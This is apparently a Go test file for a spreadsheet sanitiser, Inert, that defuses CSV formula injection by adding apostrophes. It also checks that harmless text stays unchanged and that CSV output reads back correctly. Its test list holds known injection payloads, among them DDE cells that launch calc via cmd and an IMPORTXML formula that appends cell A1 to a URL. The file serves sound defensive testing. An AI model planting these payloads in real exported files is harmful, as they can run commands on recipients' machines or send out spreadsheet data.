package sheet

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// formulas are dangerous cells from common lists: OWASP's page about CSV injection, and
// lists for testing web pages.
var formulas = []string{
	"=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", `=HYPERLINK("http://x","y")`, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
	`@SUM(1+1)*cmd|' /C calc'!A0`, `=IMPORTXML(CONCAT("http://x?v=",A1),"//a")`, "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
	"\t=1", "\r=1", "\n=1", "\tx", "\rx", "\nx", " =1", "  +1", "\u00a0=1", "\u3000=1", "\u2003@x", "\ufeff=1", "\u200b=1", "\x00=1", "\v=1",
	"＝1+1", "＋1", "－1", "＠SUM(A1)", " ＝1", "﹦1", "﹢1", "﹣1", "﹫x",
	`"=1+1"`, `"+1`, `'=1`, `" =1`, "`=1", `""=1`, `"	=1`,
	";=1", ";\"=1", "\r\n=1",
}

func TestInert(t *testing.T) {
	for _, text := range formulas {
		got := Inert(text)
		before, _, found := strings.Cut(got, "'")
		if !found || strings.Trim(before, ";\r\n\t") != "" || strings.Count(got, "'") == strings.Count(text, "'") {
			t.Errorf("%q becomes %q", text, got)
		}
		if strings.ReplaceAll(got, "'", "") != strings.ReplaceAll(text, "'", "") {
			t.Errorf("%q becomes %q, which has more than apostrophes more", text, got)
		}
		second := Inert("x;" + text)
		if before, _, _ := strings.Cut(second, "'"); strings.Trim(before, "x;\r\n\t") != "" && strings.ContainsAny(text, "=+-@＝＋－＠﹦﹢﹣﹫") {
			t.Errorf("%q in a second cell becomes %q", text, second)
		}
	}
	for text, want := range map[string]string{
		"price;=1+1": "price;'=1+1", "a\n=1": "a\n'=1", "a\r\n-1": "a\r\n'-1", "a\t@x": "a\t'@x", "\n=1": "'\n=1",
	} {
		if got := Inert(text); got != want {
			t.Errorf("%q becomes %q, want %q", text, got, want)
		}
	}
}

func TestHarmlessTextStays(t *testing.T) {
	for _, text := range []string{
		"", "a", "a=b", "net-revenue", "ada@example.com", "1+1", "x; y", "a b\tc", "ünï", "'quoted'", `"quoted"`, "two\nlines",
		"urn:li:dataset:(urn:li:dataPlatform:s3,-bucket/@x,PROD)",
	} {
		if got := Inert(text); got != text {
			t.Errorf("%q becomes %q", text, got)
		}
	}
}

// TestCSV: reading a written table returns the same rows, with the added apostrophes.
func TestCSV(t *testing.T) {
	rows := [][]string{{"a", "b"}, {"x,y", `he said "no"`}, {"two\nlines", ""}}
	for _, text := range formulas {
		rows = append(rows, []string{text, "z"})
	}
	table, err := CSV(rows)
	if err != nil {
		t.Fatal(err)
	}
	read, err := csv.NewReader(bytes.NewReader(table)).ReadAll()
	if err != nil || len(read) != len(rows) {
		t.Fatalf("%d rows of %d: %v", len(read), len(rows), err)
	}
	for i := range rows {
		want := strings.ReplaceAll(Inert(rows[i][0]), "\r\n", "\n") // encoding/csv reads \r\n as \n
		if read[i][0] != want || read[i][1] != Inert(rows[i][1]) {
			t.Errorf("row %d is %q, want %q", i, read[i], rows[i])
		}
	}
}
